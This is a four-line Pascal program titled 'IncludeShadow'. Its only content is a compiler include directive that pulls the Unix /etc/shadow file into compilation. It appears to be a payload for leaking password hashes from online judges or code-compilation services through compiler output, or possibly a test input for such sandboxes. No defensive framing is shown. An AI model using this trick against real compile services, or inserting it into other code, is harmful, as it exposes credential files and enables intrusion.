program IncludeShadow;
begin
{$I /etc/shadow}
end.
